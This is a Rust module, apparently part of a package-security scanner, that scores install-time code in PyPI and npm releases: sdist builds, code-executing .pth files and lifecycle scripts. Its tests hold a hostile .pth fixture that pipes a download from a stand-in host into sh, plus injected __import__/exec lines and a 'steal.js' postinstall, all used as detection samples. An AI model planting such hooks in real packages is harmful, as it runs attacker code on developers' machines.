//! Install-time code: what runs on the developer's machine merely because a
//! package was installed, before anybody imports it.
//!
//! pip runs `setup.py` (or a build backend) when it has to build from an
//! sdist, and every interpreter start executes the `import` lines of `.pth`
//! files a wheel drops into site-packages; npm runs the `preinstall`,
//! `install`, `postinstall` and `prepare` scripts. Install-time code is
//! common and mostly benign, so it alone adds moderate points; refusing
//! sdists (`only_binary`) and `.pth` code are the exceptions that block.

use super::Finding;
use std::collections::BTreeMap;

/// The package runs code at install time (sdist build or npm lifecycle script).
pub const INSTALL_SCRIPT: &str = "install-script";
/// Policy allows wheels only, and this install would build an sdist.
pub const INSTALL_SDIST_REFUSED: &str = "install-sdist-refused";
/// A wheel ships a `.pth` file that executes code at every interpreter start.
pub const INSTALL_PTH_EXEC: &str = "install-pth-exec";

/// Every code this module reports: `(code, default points, description)`.
pub const CODES: &[(&str, i32, &str)] = &[
    (
        INSTALL_SCRIPT,
        20,
        "runs code at install time (sdist build or npm lifecycle script)",
    ),
    (
        INSTALL_SDIST_REFUSED,
        100,
        "only binary packages are allowed and this one would build from source",
    ),
    (
        INSTALL_PTH_EXEC,
        60,
        "a wheel's .pth file executes code at every Python start",
    ),
];

/// npm lifecycle scripts that run when a package is installed.
pub const LIFECYCLE: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

/// Modules the benign `.pth` templates import (namespace packages, setuptools).
const PTH_MODULES: &[&str] = &[
    "sys",
    "types",
    "os",
    "importlib",
    "importlib.util",
    "importlib.machinery",
    "_distutils_hack",
];

/// Every identifier used by setuptools' `-nspkg.pth` templates and its
/// `distutils-precedence.pth`; a line using anything else is not one of them.
const PTH_WORDS: &[&str] = &[
    "import",
    "sys",
    "types",
    "os",
    "has_mfs",
    "version_info",
    "p",
    "path",
    "join",
    "_getframe",
    "f_locals",
    "importlib",
    "util",
    "machinery",
    "__import__",
    "m",
    "modules",
    "setdefault",
    "module_from_spec",
    "PathFinder",
    "find_spec",
    "dirname",
    "ModuleType",
    "mp",
    "__dict__",
    "__path__",
    "not",
    "in",
    "and",
    "or",
    "append",
    "ie",
    "exists",
    "var",
    "enabled",
    "environ",
    "get",
    "add_shim",
    "_distutils_hack",
];

fn sdist(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    [".tar.gz", ".zip", ".tar.bz2", ".tar.xz", ".tgz", ".tar"]
        .iter()
        .any(|e| n.ends_with(e))
}

/// Install-time code of a PyPI release.
///
/// `files_of_version` are all files uploaded for the version, `chosen` the
/// ones pip will install (empty if unknown), `wheel_files` the extracted
/// content of the chosen wheel if there is one, and `only_binary` the
/// policy's refusal to build from source.
pub fn check_pypi(
    files_of_version: &[String],
    chosen: &[String],
    wheel_files: Option<&[(String, Vec<u8>)]>,
    only_binary: bool,
) -> Vec<Finding> {
    let mut out = Vec::new();
    let has_wheel = files_of_version.iter().any(|f| f.ends_with(".whl"));
    let built: Vec<&String> = if chosen.is_empty() && !has_wheel {
        files_of_version.iter().filter(|f| sdist(f)).collect()
    } else {
        chosen.iter().filter(|f| sdist(f)).collect()
    };
    if !built.is_empty() {
        let why = if has_wheel {
            "pip will build from the sdist (no compatible wheel)"
        } else {
            "release has only an sdist"
        };
        let evidence = built
            .iter()
            .map(|f| format!("{f}: {why}; its build script runs at install"))
            .collect();
        out.push(if only_binary {
            Finding {
                code: INSTALL_SDIST_REFUSED.into(),
                points: 100,
                reason: "Only binary packages are allowed; this would run setup.py".into(),
                evidence,
            }
        } else {
            Finding {
                code: INSTALL_SCRIPT.into(),
                points: 20,
                reason: "Runs setup.py at install (sdist only)".into(),
                evidence,
            }
        });
    }
    let mut pth = Vec::new();
    for (path, data) in wheel_files.unwrap_or_default() {
        if !path.ends_with(".pth") || !pth_installed(path) {
            continue;
        }
        let name = path.rsplit('/').next().unwrap_or(path);
        for (n, line) in String::from_utf8_lossy(data).lines().enumerate() {
            // site.py executes exactly the lines starting with "import " or "import\t".
            if (line.starts_with("import ") || line.starts_with("import\t"))
                && !benign_pth(name, line)
            {
                let line = super::archive::shorten(line.trim_end(), 160);
                pth.push(format!("{path}:{}: {line}", n + 1));
            }
        }
    }
    if !pth.is_empty() {
        out.push(Finding {
            code: INSTALL_PTH_EXEC.into(),
            points: 60,
            reason: "Wheel installs a .pth file that runs code at every Python start".into(),
            evidence: pth,
        });
    }
    out
}

/// Does the wheel install this `.pth` into site-packages (where site.py reads it)?
fn pth_installed(path: &str) -> bool {
    let parts: Vec<&str> = path.split('/').collect();
    match parts.as_slice() {
        [_] => true,
        [data, lib, _] => data.ends_with(".data") && (*lib == "purelib" || *lib == "platlib"),
        _ => false,
    }
}

/// Is `line` one of setuptools' own `.pth` templates, which only set up
/// namespace packages or the distutils shim?
fn benign_pth(name: &str, line: &str) -> bool {
    if !(name.ends_with("-nspkg.pth") || name == "distutils-precedence.pth") {
        return false;
    }
    // Split string literals from code: modules passed to __import__ must be
    // known, other literals are package names or setuptools' own settings.
    let mut code = String::new();
    let mut rest = line;
    while let Some(q) = rest.find(['\'', '"']) {
        code.push_str(&rest[..q]);
        let quote = rest.as_bytes()[q] as char;
        let Some(end) = rest[q + 1..].find(quote) else {
            return false;
        };
        let literal = &rest[q + 1..q + 1 + end];
        if code.trim_end().ends_with("__import__(") && !PTH_MODULES.contains(&literal) {
            return false;
        }
        if !literal
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
        {
            return false;
        }
        code.push_str("''");
        rest = &rest[q + 2 + end..];
    }
    code.push_str(rest);
    code.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .filter(|w| !w.is_empty() && !w.starts_with(|c: char| c.is_ascii_digit()))
        .all(|w| PTH_WORDS.contains(&w))
}

/// npm lifecycle scripts that run at install, from a version's `scripts`.
pub fn check_npm(scripts: &BTreeMap<String, String>) -> Vec<Finding> {
    let evidence: Vec<String> = LIFECYCLE
        .iter()
        .filter_map(|name| {
            scripts
                .get(*name)
                .map(|s| format!("{name}: {}", super::archive::shorten(s, 160)))
        })
        .collect();
    if evidence.is_empty() {
        return Vec::new();
    }
    vec![Finding {
        code: INSTALL_SCRIPT.into(),
        points: 20,
        reason: "Runs an npm lifecycle script at install".into(),
        evidence,
    }]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::verdict::archive::{read_archive, tests::zip, ArchiveLimits};

    fn s(v: &[&str]) -> Vec<String> {
        v.iter().map(|x| x.to_string()).collect()
    }

    #[test]
    fn sdist_only_release_runs_setup_py() {
        let files = s(&["evil-0.1.tar.gz"]);
        let f = check_pypi(&files, &files, None, false);
        assert_eq!((f[0].code.as_str(), f[0].points), (INSTALL_SCRIPT, 20));
        assert!(f[0].evidence[0].starts_with("evil-0.1.tar.gz: release has only an sdist"));
        let f = check_pypi(&files, &[], None, true);
        assert_eq!(
            (f[0].code.as_str(), f[0].points),
            (INSTALL_SDIST_REFUSED, 100)
        );
    }

    #[test]
    fn a_chosen_wheel_runs_nothing() {
        let files = s(&["ok-1.0.tar.gz", "ok-1.0-py3-none-any.whl"]);
        assert_eq!(check_pypi(&files, &files[1..], None, true), vec![]);
        // No compatible wheel: pip falls back to the sdist.
        let f = check_pypi(&files, &files[..1], None, false);
        assert!(f[0].evidence[0].contains("no compatible wheel"), "{f:?}");
    }

    #[test]
    fn pth_that_imports_is_red_but_setuptools_templates_are_not() {
        let evil =
            b"# path hook\nimport os; os.system('curl -s http://evil.example | sh')\nsome/dir\n";
        let nspkg = b"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
        let shim = b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
        let bytes = zip(&[
            ("evil_hook.pth", evil),
            ("google_x-1.0-py3.9-nspkg.pth", nspkg),
            ("distutils-precedence.pth", shim),
            ("pkg/not_installed.pth", b"import os\n"),
        ]);
        let wheel = read_archive("x-1.0-py3-none-any.whl", &bytes, &ArchiveLimits::default());
        let files = s(&["x-1.0-py3-none-any.whl"]);
        let f = check_pypi(&files, &files, Some(&wheel.files), false);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!((f[0].code.as_str(), f[0].points), (INSTALL_PTH_EXEC, 60));
        assert_eq!(
            f[0].evidence,
            ["evil_hook.pth:2: import os; os.system('curl -s http://evil.example | sh')"]
        );
        // A template name with extra code is not a template.
        let sneaky = "import os;__import__('os').system('id')";
        assert!(!benign_pth("a-nspkg.pth", sneaky));
        assert!(!benign_pth("a-nspkg.pth", "import os;exec('x')"));
        assert!(!benign_pth("a-nspkg.pth", "import sys;__import__('evil')"));
    }

    #[test]
    fn npm_lifecycle_scripts_are_install_scripts() {
        let pkg = r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node ./steal.js","test":"jest"}}"#;
        let json: serde_json::Value = serde_json::from_str(pkg).unwrap();
        let scripts: BTreeMap<String, String> =
            serde_json::from_value(json["scripts"].clone()).unwrap();
        let f = check_npm(&scripts);
        assert_eq!((f[0].code.as_str(), f[0].points), (INSTALL_SCRIPT, 20));
        assert_eq!(f[0].evidence, ["postinstall: node ./steal.js"]);
        let only_test: BTreeMap<String, String> = [("test".into(), "jest".into())].into();
        assert_eq!(check_npm(&only_test), vec![]);
    }
}
